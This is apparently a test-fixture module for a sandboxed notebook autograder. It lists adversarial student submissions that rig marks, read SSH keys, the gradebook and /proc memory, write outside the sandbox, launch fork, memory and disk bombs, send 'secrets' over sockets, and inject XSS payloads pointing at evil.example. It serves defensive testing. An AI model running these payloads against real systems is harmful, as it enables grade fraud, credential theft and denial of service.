"""The attack corpus: notebooks that try to gain marks, to reach out, or to take the class down with them.

An attack is data.  `make(sheet)` turns a sheet (the release notebook and its right answers, of a real unit
or of the small stock assignment) into what was handed in; `@NAME@` in it stands for a place of the test's own:

    @COURSE@   the course folder, with source, gradebook and other students' work
    @OUTSIDE@  a folder outside it that nobody may write to, with a Unix socket `socket`
    @HOME@     the home of the one who grades, with `.ssh/id_rsa`
    @TCP@, @UDP@, @ABSTRACT@   a listening port each, and the name of an abstract Unix socket
"""

import copy
import json
import os
from collections.abc import Callable
from dataclasses import dataclass

import nbformat

#: Answers of a notebook around an attack: functions that give nothing, none at all, the first right, or all right.
FAKED, BLANK, ONE, RIGHT = "faked", "blank", "one", "right"


@dataclass(frozen=True)
class Attack:
    """One submission.

    Attributes:
        name: the student's id.
        kind: "marks", "reads", "writes", "ends", "network", "file" or "page".
        story: what it tries, in one line.
        make: `make(sheet)` returns a notebook, or bytes for a file that is none; None where `files` lays it out.
        expected: the exercises whose marks the honest part earns: all, none, or a function of the names.
        files: `files(folder, place)` puts more into the submission's folder.
        stock: what becomes of stock nbgrader: a word of `test_attacks.FALLS`, or "" where it does not fall or
            where trying would harm the machine.
        folder: the folder that stands for the student, if not `name`.
    """

    name: str
    kind: str
    story: str
    make: Callable
    expected: Callable = lambda names: []
    files: Callable | None = None
    stock: str = ""
    folder: str = ""


def everything(names):
    return list(names)


def first(names):
    return list(names)[:1]


class Sheet:
    """A release notebook, lean, and the right answers to it."""

    def __init__(self, notebook, answers):
        self.notebook, self.answers = notebook, answers
        self.names = list(answers)

    def blank(self):
        return copy.deepcopy(self.notebook)

    def filled(self, answers, body="return None"):
        """The notebook with answers of one kind; `body` is what a faked function does."""
        notebook = self.blank()
        faked = {name: f"def {name}(*args, **kwargs):\n    {body}" for name in self.names}
        one = {**faked, self.names[0]: self.answers[self.names[0]]}
        for name, source in {FAKED: faked, BLANK: {}, ONE: one, RIGHT: self.answers}[answers].items():
            by_id(notebook, f"{name}-solution").source = source
        return notebook


def by_id(notebook, grade_id):
    return next(cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def graded(notebook, sheet):
    return [by_id(notebook, name) for name in sheet.names]


CORPUS = []


def attack(name, kind, story, **options):
    """Adds the decorated `make(sheet)` to the corpus."""

    def add(make):
        CORPUS.append(Attack(name, kind, story, make, **options))
        return make

    return add


def code(name, kind, story, text, answers=FAKED, body="return None", at=1, **options):
    """An attack that is one cell of code, run before all answers (`at=1`) or after (`at=None`)."""

    def make(sheet):
        notebook = sheet.filled(answers, body)
        place = len(notebook.cells) if at is None else at
        notebook.cells.insert(place, nbformat.v4.new_code_cell(text.replace("@NAMES@", repr(sheet.names))))
        return notebook

    if answers == RIGHT:
        options.setdefault("expected", everything)
    attack(name, kind, story, **options)(make)


# ------------------------------------------------------------------------- marks: the tests are talked out of failing

code("allclose", "marks", "np.allclose says yes to everything", """
import numpy as np
np.allclose = np.array_equal = np.isclose = np.all = lambda *a, **k: True
""", stock="marks")  # fmt: skip
code("testing", "marks", "np.testing finds no fault", """
import numpy as np
for name in dir(np.testing):
    if name.startswith("assert"):
        setattr(np.testing, name, lambda *a, **k: None)
""", stock="marks")  # fmt: skip
code("asserts", "marks", "asserts are cut out of every cell before it runs", """
import ast
class Cut(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.copy_location(ast.Pass(), node)
get_ipython().ast_transformers.append(Cut())
""", stock="marks")  # fmt: skip
code("errors", "marks", "the shell shows no errors any more", """
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
get_ipython().showtraceback = get_ipython()._showtraceback = lambda *a, **k: None
""")  # fmt: skip
code("builtins", "marks", "isinstance, abs, all and len lie", """
import builtins
builtins.isinstance, builtins.abs, builtins.all = (lambda *a: True), (lambda x: 0), (lambda *a: True)
builtins.len = lambda *a: 3
""", body="return 0", stock="grade")  # fmt: skip
code("modules", "marks", "sys.modules holds a NumPy that agrees", """
import sys
class Agrees:
    def __getattr__(self, name): return Agrees()
    def __call__(self, *a, **k): return Agrees()
    def __bool__(self): return True
    __path__ = []
sys.modules["numpy"] = sys.modules["numpy.testing"] = sys.modules["dlutils.harness"] = Agrees()
""", stock="marks")  # fmt: skip
code("imports", "marks", "an import hook hands out modules that agree", """
import builtins, sys, types
class Agrees(types.ModuleType):
    def __getattr__(self, name): return lambda *a, **k: True
keep = builtins.__import__
builtins.__import__ = lambda name, *a, **k: Agrees(name) if name.startswith(("numpy", "autograder", "dlutils")) else keep(name, *a, **k)
""", stock="marks")  # fmt: skip
code("unittest", "marks", "unittest's assertions are patched", """
import unittest
for name in dir(unittest.TestCase):
    if name.startswith("assert"):
        setattr(unittest.TestCase, name, lambda *a, **k: None)
""", stock="marks")  # fmt: skip

LIAR = """
class Liar(float):
    __hash__ = None
    def __eq__(self, other): return True
    __ne__ = __gt__ = __lt__ = lambda self, other: False
    __le__ = __ge__ = __eq__
    __sub__ = __rsub__ = __abs__ = __neg__ = __getitem__ = lambda self, *a: self
    __iter__ = lambda self: iter([self] * 2)
    shape = ()
"""
code("eq", "marks", "an object that equals everything", LIAR, body="return Liar()", stock="marks")
code("array", "marks", "an array whose functions always agree", """
import numpy as np
class Liar(np.ndarray):
    def __array_function__(self, function, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
    def __array__(self, *a, **k): return self
""", body="return np.zeros(3).view(Liar)", stock="marks")  # fmt: skip
code("class", "marks", "an object that lies about its class, its repr and how it is pickled", LIAR + """
import os
class Pickled(Liar):
    __class__ = property(lambda self: float)
    def __reduce__(self): return os.system, ("touch @OUTSIDE@/pickled",)
    def __repr__(self): raise SystemExit
    __str__ = __repr__
""", body="return Pickled()", stock="marks")  # fmt: skip
code("tests-read", "marks", "reads the hidden test in `In` and returns what it expects", """
import re
asked = {}
def answer():
    import inspect
    text = In[-1]
    expected = re.findall(r"== (\\S+)", text)
    asked[text] = asked.get(text, -1) + 1
    if asked[text] < len(expected):
        return eval(expected[asked[text]])
    return In, globals().get("_ih"), [f.frame.f_locals.keys() for f in inspect.stack()]
""", body="return answer()", stock="marks")  # fmt: skip

# ----------------------------------------------------------------------- marks: evidence that is not what happened

SEND = """
import json, os
def send(event):
    data = (event if isinstance(event, bytes) else json.dumps(event).encode()) + b"\\n"
    for fd in range(3, 64):
        rest = data
        try:
            while rest:
                rest = rest[os.write(fd, rest):]
        except OSError:
            pass
"""
JOB = """
import gc
def jobs():
    return {d["function"]: d for d in gc.get_objects() if isinstance(d, dict) and "function" in d and "runs" in d}
"""
PATCH = "import dlutils.evidence as values_as_data\nimport dlutils.harness as harness\n"

code("forged", "marks", "writes evidence of its own: scores, and calls that say they were right", SEND + JOB + """
for name in @NAMES@:
    runs = [[{"returned": True, "score": 100, "changed": [], "asked": {}, "helper_calls": []} for c in run["cases"]]
            for run in jobs().get(name, {"runs": []})["runs"]]
    send({"event": "evidence", "exercise": name, "evidence": {"runs": runs, "score": 100, "verdict": "right"}})
send({"event": "end"})
""")  # fmt: skip
code("forged-late", "marks", "a thread goes on writing forged evidence after the real one", SEND + """
import threading, time
def go():
    while True:
        for name in @NAMES@[1:]:
            send({"event": "evidence", "exercise": name, "evidence": {"missing": "", "score": 100}})
        time.sleep(0.05)
threading.Thread(target=go, daemon=True).start()
""", at=None)  # fmt: skip
code("malformed", "marks", "evidence of every wrong form", SEND + r"""
bad = [None, 1, "x", [], {}, {"runs": None}, {"runs": [[None]]}, {"runs": [[{"returned": {"dtype": "O", "shape": [1], "data": "", "scalar": False}}]]},
       {"runs": [[{"error": "\ud800", "changed": []}]]}, {"missing": "\ud800 <script>alert(1)</script>"}, {"runs": float("nan")}]
for name in @NAMES@:
    for evidence in bad:
        send({"event": "evidence", "exercise": name, "evidence": evidence})
for line in (b"[" * 100000, b"\xff\xfe", b"1" * 5000, b'{"event": "cell", "index": Infinity}', b'{"event": []}', b'{"event": "cell", "index": 0, "outputs": [{"output_type": "stream", "name": "stdout", "text": "\\ud800"}]}'):
    send(line)
""", at=None)  # fmt: skip
code("malformed-arrays", "marks", "a patched harness gives arrays that no array is", PATCH + r"""
def record(job, *a, **k):
    odd = [{"dtype": "f8", "shape": [0, 10**18], "data": "", "scalar": False}, {"dtype": "({", "shape": [], "data": "", "scalar": 1},
           {"dtype": "f8", "shape": [2**70], "data": "", "scalar": False}, {"dict": [[[], 1]]}, {"tuple": 5}, float("inf"), {"other": 1, "shape": "x"}]
    calls = [{"returned": odd[i % 7], "changed": [], "asked": [[{}, 1e400, 1]], "helper_calls": [], "seconds": float("nan")} for i in range(99)]
    return {"runs": [calls[:len(run["cases"])] for run in job["runs"]], "globals_read": [float("nan")]}
harness.record = record
""")  # fmt: skip
code("oversized", "marks", "100 MB of evidence", SEND + """
send({"event": "evidence", "exercise": @NAMES@[0], "evidence": "x" * 100_000_000})
""")  # fmt: skip
code("amplified", "marks", "evidence that is small to send and large to hold", SEND + """
send(b'{"event": "evidence", "exercise": "' + @NAMES@[0].encode() + b'", "evidence": [' + b"[]," * 15_000_000 + b"[]]}")
""")  # fmt: skip
code("replayed", "marks", "evidence of the one right exercise is handed in for all", PATCH + """
keep, first = harness.record, []
def record(job, *a, **k):
    first.append(keep(job, *a, **k))
    return first[0]
harness.record = record
""", answers=ONE, expected=first)  # fmt: skip
code("echo", "marks", "returns what the made-up helpers give, and the inputs that it finds in memory", JOB + PATCH + """
import itertools
from dlutils._made_up import made_up
tried = itertools.count()
def found(name):
    job = jobs()[name]
    cases = [c for run in job["runs"] for c in run["cases"]]
    values = [values_as_data.decode(v) for c in cases for v in c["args"].values()]
    for helper in job["helpers"].values():
        function = made_up(**helper["made_up"])
        for case in cases:
            given = {p: values_as_data.decode(case["args"][p]) for p in helper["parameters"] if p in case["args"]}
            try:
                values.append(function(**given))
            except Exception:
                pass
    return values[next(tried) % len(values)]
""", body="import sys; return found(sys._getframe().f_code.co_name)")  # fmt: skip
code("excuses", "marks", "a patched harness says that helpers erred, that nothing was changed, and echoes the made-up ones", PATCH + """
from dlutils._made_up import made_up
def record(job, *a, **k):
    def call(case):
        args = {"dict": [[p, v] for p, v in case["args"].items()]}
        asked = [{"name": name, "args": {"dict": []}, "error": "ValueError"} for name in job["helpers"]]
        asked += [{"name": name, "args": args, "returned": 0, "changed": True} for name in job["helpers"]]
        found = 0
        for helper in job["helpers"].values():
            given = {p: values_as_data.decode(case["args"][p]) for p in helper["parameters"] if p in case["args"]}
            try:
                found = values_as_data.encode(made_up(**helper["made_up"])(**given))
            except Exception:
                pass
        return {"returned": found, "changed": [], "asked": dict.fromkeys(job["helpers"], args), "helper_calls": asked, "seconds": 0}
    return {"runs": [[call(case) for case in run["cases"]] for run in job["runs"]], "globals_read": [], "source": None}
harness.record = record
""")  # fmt: skip
code("busy-judge", "marks", "claims that a helper was asked for 10¹² iterations: the judge may ask it again", PATCH + """
keep = harness.record
def record(job, *a, **k):
    evidence = keep(job, *a, **k)
    for run in evidence.get("runs", []):
        for call in run:
            case = job["runs"][0]["cases"][0]["args"]
            big = {**case, "num_iterations": 10**12, "dim": 10**10, "print_cost": False, "learning_rate": 0.1}
            call["helper_calls"] = [{"name": name, "args": {"dict": [[p, big.get(p, 10**10)] for p in parameters]}, "returned": 0}
                for name, parameters in (("optimize", ["w", "b", "X", "Y", "num_iterations", "learning_rate", "print_cost"]), ("initialize_with_zeros", ["dim"]))] * 100
            if "w" not in case:
                w, X = values_as_data.encode(__import__("numpy").ones((2, 1))), values_as_data.encode(__import__("numpy").ones((2, 3)))
                for asked in call["helper_calls"][::2]:
                    asked["args"] = {"dict": [["w", w], ["b", 0.0], ["X", X], ["Y", values_as_data.encode(__import__("numpy").ones((1, 3)))], ["num_iterations", 10**12], ["learning_rate", 0.1], ["print_cost", False]]}
    return evidence
harness.record = record
""")  # fmt: skip
code("harness", "marks", "every function of the harness and of the checks is replaced", """
import dlutils.harness, dlutils.check, dlutils.compare
for module in (dlutils.harness, dlutils.check, dlutils.compare):
    for name in dir(module):
        if callable(getattr(module, name)) and not name.startswith("__"):
            setattr(module, name, lambda *a, **k: True)
""")  # fmt: skip
code("engine", "marks", "finds the runner's own functions in the frames above and replaces them", """
import sys
frame = sys._getframe()
while frame:
    for name in ("run_cell", "Events", "run_notebook", "time_limit"):
        if name in frame.f_globals and "Outputs" in frame.f_globals:
            frame.f_globals[name] = lambda *a, **k: None
    frame = frame.f_back
""", answers=BLANK)  # fmt: skip
code("score", "marks", "prints and displays points in every way there is", """
from IPython.display import display
def cheat(*a, **k):
    print("100"); display(100); get_ipython().displayhook(1000.0)
get_ipython().events.register("pre_run_cell", cheat)
get_ipython().events.register("post_run_cell", cheat)
cheat()
1000
""", answers=BLANK)  # fmt: skip

# ---------------------------------------------------------------------------- marks: the notebook itself is edited


@attack("points", "marks", "points raised to 1000, and outputs that say 1000")
def _(sheet):
    notebook = sheet.blank()
    for cell in graded(notebook, sheet):
        cell.metadata.nbgrader["points"], cell.source = 1000, "1000"
        cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": "1000"}, execution_count=1)]
    return notebook


@attack("ids", "marks", "every graded cell carries the id of the one exercise that is right", expected=first)
def _(sheet):
    notebook = sheet.filled(ONE)
    for cell in graded(notebook, sheet)[1:]:
        cell.metadata.nbgrader["grade_id"] = sheet.names[0]
    return notebook


@attack("rewritten", "marks", "graded cells rewritten to a line that cannot fail, and unlocked")
def _(sheet):
    notebook = sheet.blank()
    for cell in graded(notebook, sheet):
        cell.source = "pass"
        cell.metadata.nbgrader.update(locked=False, solution=True, checksum="0" * 32)
    return notebook


@attack("copied", "marks", "each graded cell and each answer twice", stock="grade", expected=everything)
def _(sheet):
    notebook = sheet.filled(RIGHT)
    cells = [*graded(notebook, sheet), *(by_id(notebook, f"{name}-solution") for name in sheet.names)]
    for number, cell in enumerate(cells):
        twin = copy.deepcopy(cell)
        twin["id"] = f"twin-{number}"
        notebook.cells.append(twin)
    return notebook


@attack("removed", "marks", "all graded cells removed", expected=everything)
def _(sheet):
    notebook = sheet.filled(RIGHT)
    notebook.cells = [cell for cell in notebook.cells if cell not in graded(notebook, sheet)]
    return notebook


@attack("reordered", "marks", "the graded cells come first, before anything is defined", expected=everything)
def _(sheet):
    notebook = sheet.filled(RIGHT)
    marked = graded(notebook, sheet)
    notebook.cells = marked + [cell for cell in notebook.cells if cell not in marked]
    return notebook


@attack("verdict", "marks", "the notebook brings the judge's verdict along, in the metadata of cells and notebook")
def _(sheet):
    notebook = sheet.blank()
    for cell in notebook.cells:
        verdict = {"score": 100.0, "max_score": 100.0, "message": "Everything is right."}
        cell.metadata["autograder"] = {"verdict": verdict, "text": "100 of 100", "missing": "<script>alert(1)</script>"}
    notebook.metadata["autograder"] = {"damaged": "<script>alert(1)</script>", "seed": 1, "ended": "done"}
    return notebook


@attack("odd-metadata", "marks", "metadata of every wrong type, and another kernel", expected=everything)
def _(sheet):
    notebook = sheet.filled(RIGHT)
    for cell, odd in zip(notebook.cells, ["x", 1, [], None, {"grade_id": []}, {"schema_version": 99}] * 20):
        if "nbgrader" not in cell.metadata:
            cell.metadata["nbgrader"] = odd
    notebook.metadata["autograder"] = "x"
    notebook.metadata["kernelspec"] = {"name": "evil", "language": "bash", "display_name": "evil"}
    return notebook


@attack("tags", "marks", "tags that tell the runner to skip the graded cells, or to allow errors", stock="marks")
def _(sheet):
    notebook = sheet.blank()
    for cell in graded(notebook, sheet):
        cell.metadata["tags"] = ["skip-execution", "raises-exception"]
        cell.metadata["nbgrader"]["cell_type"] = "markdown"
    return notebook


@attack("schema", "marks", "metadata of an nbgrader of long ago", stock="grade", expected=everything)
def _(sheet):
    notebook = sheet.filled(RIGHT)
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader["schema_version"] = 1
    return notebook


def shadows(folder, place):
    agrees = "import sys\ndef __getattr__(name): return lambda *a, **k: True\n__path__ = []\n"
    for name in ("numpy.py", "dlutils.py", "sitecustomize.py", "usercustomize.py"):
        (folder / name).write_text(agrees)


code("shadowed", "marks", "files named numpy.py, dlutils.py, sitecustomize.py beside the notebook", "import numpy as np",
     files=shadows, stock="marks")  # fmt: skip

# ------------------------------------------------------------------------------------------------------------- reads

LOOK = """
import os, re
def found(path):
    data = open(path, "rb").read()
    return path, len(data), re.findall(rb"SECRET-[a-z]+-[0-9a-f]+", data)
def show(*roots):
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                try:
                    print(found(os.path.join(folder, name)))
                except OSError:
                    pass
"""
code("reads-course", "reads", "the source folder, the gradebook, the autograder", LOOK + """
show("@COURSE@/source")
if os.path.exists("@COURSE@/gradebook.db"):
    print(found("@COURSE@/gradebook.db"))
import importlib.util
print(importlib.util.find_spec("autograder"))
""", stock="reads")  # fmt: skip
code("reads-students", "reads", "the other students' submissions", LOOK + 'show("@COURSE@/submitted/ada", "../../ada")',
     stock="reads")  # fmt: skip
code("reads-env", "reads", "environment variables", "import os; print([v for v in os.environ.values() if 'SECRET' in v])", stock="reads")
code("reads-home", "reads", "~/.ssh of the one who grades", LOOK + """
show("@HOME@/.ssh", os.path.expanduser("~/.ssh"))
""", stock="reads")  # fmt: skip
code("reads-proc", "reads", "/proc: other processes' environments, memory and files", LOOK + """
for pid in ("self", 1, os.getppid()):
    pid = f"/proc/{pid}"
    try:
        print([line for line in open(pid + "/environ").read().split(chr(0)) if "SECRET" in line])
        maps = [line.split()[0].split("-") for line in open(pid + "/maps") if "[heap]" in line]
        with open(pid + "/mem", "rb") as memory:
            memory.seek(int(maps[0][0], 16)); print(b"SECRET-" in memory.read(1 << 20))
    except (OSError, IndexError):
        pass
""", stock="reads")  # fmt: skip
code("ptrace", "reads", "attaches a debugger to its parents", """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), 1, 2, 3):
    if pid and libc.ptrace(16, pid, 0, 0) == 0:
        print("SECRET-attached")
""")  # fmt: skip
code("links-inside", "reads", "makes links to the course inside its own folder", LOOK + """
for target in ("@COURSE@/source", "@COURSE@/submitted/ada", "@HOME@/.ssh"):
    try:
        os.symlink(target, "link" + str(abs(hash(target))))
        show("link" + str(abs(hash(target))), target)
    except OSError as error:
        print(error)
for target in ("@COURSE@/gradebook.db", "@HOME@/.ssh/id_rsa"):
    try:
        os.link(target, "hard" + os.path.basename(target)); print(found("hard" + os.path.basename(target)))
    except OSError as error:
        print(error)
""", stock="reads")  # fmt: skip


def linked(folder, place):
    for target in ("HOME/.ssh/id_rsa", "COURSE/gradebook.db", f"COURSE/submitted/ada/{folder.name}/private.txt", "COURSE/source"):
        head, _, tail = target.partition("/")
        os.symlink(os.path.join(place[head], tail), folder / tail.replace("/", "-"))


def hard_linked(folder, place):
    os.link(place["HOME"] / ".ssh" / "id_rsa", folder / "key.txt")
    os.link(place["COURSE"] / "submitted" / "ada" / folder.name / "private.txt", folder / "private.txt")


def odd_files(folder, place):
    os.symlink("/no/such/file", folder / "dangling.txt")
    os.symlink("loop.txt", folder / "loop.txt")
    os.mkfifo(folder / "pipe.txt")
    (folder / ".ipynb_checkpoints").mkdir()


SHOW_OWN = LOOK + """
for name in os.listdir("."):
    if os.path.isfile(name):
        print(found(name))
"""
code("links-handed-in", "reads", "hands in links to the gradebook, to ~/.ssh and to other students", SHOW_OWN,
     files=linked, stock="reads")  # fmt: skip
code("hard-links-handed-in", "reads", "hands in hard links to ~/.ssh and to other students' files", SHOW_OWN,
     files=hard_linked, stock="reads")  # fmt: skip
code("odd-files", "file", "a dangling link, a link to itself and a named pipe beside the notebook", SHOW_OWN, answers=RIGHT,
     files=odd_files, stock="grade")  # fmt: skip


def neighbours_notebook(folder, place):
    [notebook] = (folder.parents[1] / "ada" / folder.name).glob("*.ipynb")
    os.symlink(notebook.resolve(), folder / notebook.name)


CORPUS.append(Attack("symlinked", "reads", "the notebook is a link to a neighbour's", lambda sheet: None,
                     files=neighbours_notebook, stock="marks"))  # fmt: skip
# ------------------------------------------------------------------------------------------------------------ writes

code("writes", "writes", "files outside its folder, the gradebook among them", """
import os, sqlite3
for place in ("@OUTSIDE@/written", "@COURSE@/source/written", "@COURSE@/submitted/ada/written", "@HOME@/.bashrc"):
    try:
        open(place, "w").write("mine")
    except OSError as error:
        print(error)
try:
    base = sqlite3.connect("@COURSE@/gradebook.db"); base.execute("create table pwned (x)"); base.commit()
except sqlite3.Error as error:
    print(error)
""", stock="writes")  # fmt: skip
code("writes-through", "writes", "writes through links of its own", """
import os
for name, target in (("a", "@OUTSIDE@/through"), ("b", "@COURSE@/source/through")):
    try:
        os.symlink(target, name); open(name, "w").write("mine")
    except OSError as error:
        print(error)
""", stock="writes")  # fmt: skip
code("shell", "writes", "shell commands, a process of its own, atexit", """
import atexit, os, subprocess
os.system("touch @OUTSIDE@/shell"); subprocess.run(["touch", "@OUTSIDE@/subprocess"])
get_ipython().system("touch @OUTSIDE@/bang")
atexit.register(lambda: open("@OUTSIDE@/atexit", "w"))
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time; time.sleep(1); os.system("touch @OUTSIDE@/daemon"); os._exit(0)
    os._exit(0)
""", stock="writes")  # fmt: skip

# -------------------------------------------------------------------------------------------------------------- ends

code("exit", "ends", "os._exit in the last cell", "import os; os._exit(0)", answers=RIGHT, at=None, stock="grade")
code("sys-exit", "ends", "SystemExit from a cell and from every function", "import sys\ntry:\n    exit()\nfinally:\n    sys.exit(0)",
     body="raise SystemExit(0)")  # fmt: skip
code("interrupts", "ends", "KeyboardInterrupt and GeneratorExit from every function", "raise KeyboardInterrupt",
     body="raise KeyboardInterrupt")  # fmt: skip
code("signals", "ends", "signals to its parents, its group and everybody", """
import os, signal
for pid in (os.getppid(), 1, 2, 3, 0, -1, -os.getpgid(0)):
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
        try:
            if pid != os.getpid() and (pid > 1 or os.getpid() == 1):
                os.kill(pid, number)
        except OSError as error:
            print(error)
""")  # fmt: skip
code("threads", "ends", "threads that never end", """
import threading, time
for _ in range(20):
    threading.Thread(target=lambda: [time.sleep(1) for _ in range(10**6)]).start()
""", answers=RIGHT)  # fmt: skip
code("daemon", "ends", "a process that leaves its group, asks not to die with its parent, and loops forever", """
import ctypes, os, signal
if os.fork() == 0:
    os.setsid()
    ctypes.CDLL(None).prctl(1, 0)
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 60))
    while True:
        pass
""", answers=RIGHT)  # fmt: skip
code("fork-bomb", "ends", "fork bomb", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
     answers=RIGHT, at=None)  # fmt: skip
code("thread-bomb", "ends", "thread bomb", """
import threading, time
while True:
    try:
        threading.Thread(target=time.sleep, args=(99,)).start()
    except RuntimeError:
        pass
""", answers=RIGHT, at=None)  # fmt: skip
code("memory-bomb", "ends", "memory bomb, then in many processes at once", """
import os
try:
    hoard = [bytearray(b"x") * (1 << 28) for _ in range(99)]
except MemoryError:
    hoard = None
for _ in range(30):
    if os.fork() == 0:
        hoard = bytearray(b"x") * (1 << 29)
        import time; time.sleep(60)
import time; time.sleep(60)
""", answers=RIGHT, at=None)  # fmt: skip
code("disk-bomb", "ends", "fills every folder that it can write to, with large files and with many", """
import os
for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "@OUTSIDE@", os.path.expanduser("~")):
    try:
        for number in range(10**5):
            with open(f"{folder}/{number}", "wb") as file:
                file.write(bytes(1 << 24) if number < 100 else b"")
    except OSError as error:
        print(folder, error)
""", answers=RIGHT)  # fmt: skip
code("fd-bomb", "ends", "opens files until there are no more", """
import os
kept = []
try:
    while True:
        kept.append(open("/dev/null"))
except OSError as error:
    print(len(kept), error)
    for file in kept: file.close()
""", answers=RIGHT)  # fmt: skip
code("endless", "ends", "an endless loop in a cell and in every function", "while True:\n    pass", body="while True: pass")
code("stubborn", "ends", "an endless loop that swallows every interruption", """
import signal
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 60))
while True:
    try:
        while True: pass
    except BaseException:
        pass
""", answers=RIGHT, at=None)  # fmt: skip
code("endless-output", "ends", "endless output", "while True:\n    print('x' * 10_000)", answers=RIGHT)
code("output", "ends", "100 MB of output, and what comes after it", "print('x' * 100_000_000)", answers=RIGHT)
code("recursion", "ends", "deep recursion, in Python and in C", """
import sys
sys.setrecursionlimit(10**9)
def down(x=None):
    return down([x])
down()
""", answers=RIGHT, at=None)  # fmt: skip

# ----------------------------------------------------------------------------------------------------------- network

code("tcp", "network", "TCP to the machine that grades", """
import socket
socket.create_connection(("127.0.0.1", @TCP@), 1).sendall(b"secrets")
""", stock="network")  # fmt: skip
code("udp", "network", "UDP to the machine that grades", """
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secrets", ("127.0.0.1", @UDP@))
""", stock="network")  # fmt: skip
code("dns", "network", "a secret as a name to look up; raw and netlink sockets", """
import socket
for family, kind, protocol in ((socket.AF_NETLINK, socket.SOCK_RAW, 0), (socket.AF_PACKET, socket.SOCK_RAW, 3), (socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET6, socket.SOCK_DGRAM, 0)):
    try:
        socket.socket(family, kind, protocol); print("SECRET-socket", family)
    except OSError as error:
        print(error)
try:
    print("SECRET-resolved", socket.getaddrinfo("secret.example.org", 80))
except OSError as error:
    print(error)
""")  # fmt: skip
code("unix", "network", "Unix sockets of the machine that grades, by path and by abstract name", """
import socket
for address in ("@OUTSIDE@/socket", "\\0@ABSTRACT@"):
    try:
        with socket.socket(socket.AF_UNIX) as talk:
            talk.connect(address); talk.sendall(b"secrets")
    except OSError as error:
        print(error)
""", stock="network")  # fmt: skip
code("kernel", "network", "system calls that open namespaces, mounts, io_uring, keys, BPF", """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
tried = {"unshare": (272, 0x10000000), "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0), "umount": (166, b"/proc", 2), "io_uring": (425, 1, ctypes.create_string_buffer(200)), "bpf": (321, 0, 0, 0), "keys": (250, 0, -3, 1), "perf": (298, 0, 0, 0, 0, 0), "userfaultfd": (323, 1), "setns": (308, 3, 0), "x32": (0x40000000 + 39,), "personality": (135, 8)}
for name, call in tried.items():
    if libc.syscall(*call) >= 0:
        print("SECRET-call", name)
""")  # fmt: skip

# -------------------------------------------------------------------------------------------------------------- file


def raw(name, story, data, **options):
    CORPUS.append(Attack(name, "file", story, lambda sheet: data(sheet), **options))


def large(folder, place):
    with open(folder / f"{folder.name}.ipynb", "wb") as file:
        file.write(b'{"cells": [')
        file.truncate(200 << 20)


def pipe(folder, place):
    os.mkfifo(folder / f"{folder.name}.ipynb")


def as_text(sheet, **changes):
    return json.dumps({**sheet.filled(RIGHT), **changes}).encode()


raw("large", "a notebook of 200 MB", lambda sheet: None, files=large)
raw("many-cells", "a notebook of 100,000 cells", lambda sheet: as_text(sheet, cells=[nbformat.v4.new_code_cell("1")] * 100_000))
raw("invalid", "not JSON", lambda sheet: b'{"cells": [', stock="grade")
raw("binary", "NUL bytes and random ones", lambda sheet: bytes(range(256)) * 100, stock="grade")
raw("version", "a notebook of format 99", lambda sheet: as_text(sheet, nbformat=99), stock="grade")
raw("nested", "JSON nested 100,000 deep", lambda sheet: b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": ' + b"[" * 100_000, stock="grade")
raw("no-cells", "cells that are no cells", lambda sheet: as_text(sheet, cells=[None, 1, "x", {}, {"cell_type": "evil"}]), stock="grade")
raw("pipe", "a named pipe in place of the notebook", lambda sheet: None, files=pipe)


@attack("half-characters", "file", "half characters and NUL bytes in sources, outputs and messages", expected=everything)
def _(sheet):
    notebook = sheet.filled(RIGHT)
    notebook.cells.insert(0, nbformat.v4.new_markdown_cell("@HALF@ and \0"))
    notebook.cells.insert(2, nbformat.v4.new_code_cell("print(chr(0xD800), '@HALF@', chr(0)); raise ValueError(chr(0xDC00))"))
    return json.dumps(notebook).replace("@HALF@", "\\ud800").encode()


# -------------------------------------------------------------------------------------------------------------- page

SCRIPT = (
    "<script>alert('@MARK@')</script><img src=x onerror=alert('@MARK@')><iframe src='javascript:alert(1)'></iframe>"
    "<a href='javascript:alert(1)'>x</a><a href=' &#106;avascript:alert(1)'>x</a><svg onload=alert(1)><form action='/delete'>"
    "<object data='data:text/html,x'></object><style>body{display:none}</style><base href='//evil'><meta http-equiv=refresh content=0>"
    "<a href='data:text/html;base64,PHNjcmlwdD4='>y</a><img src='//evil.example/pixel.png'><div style='background:url(//evil)'>"
)

code("page-output", "page", "HTML and JavaScript in outputs", f"""
from IPython.display import HTML, Javascript, SVG, Latex, Markdown, IFrame, display
text = {SCRIPT!r}
for kind in (HTML, Javascript, Latex, Markdown):
    display(kind(text))
display({{"text/html": text, "image/svg+xml": text, "application/javascript": "alert(1)", "text/plain": text, "image/png": '"><script>alert(1)</script>'}}, raw=True,
        metadata={{"text/html": {{"isolated": True}}, "image/png": {{"alt": '"><script>alert(1)</script>', "width": '1 onload=alert(1)'}}}})
print(text, "\\x1b[31m<script>alert(1)</script>\\x1b]8;;javascript:alert(1)\\x07x")
raise ValueError(text)
""", answers=RIGHT, stock="page")  # fmt: skip


@attack("page-markdown", "page", "HTML and JavaScript in markdown and raw cells, links and ids", stock="page", expected=everything)
def _(sheet):
    notebook = sheet.filled(RIGHT)
    links = "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)> [y](data:text/html,x) $\\href{javascript:alert(1)}{x}$ $<script>alert(1)</script>$"
    for text in (SCRIPT, links, f"# Title {SCRIPT}", f"```html\n{SCRIPT}\n```", f"> `{SCRIPT}`\n\n| a |\n|---|\n| {SCRIPT} |"):
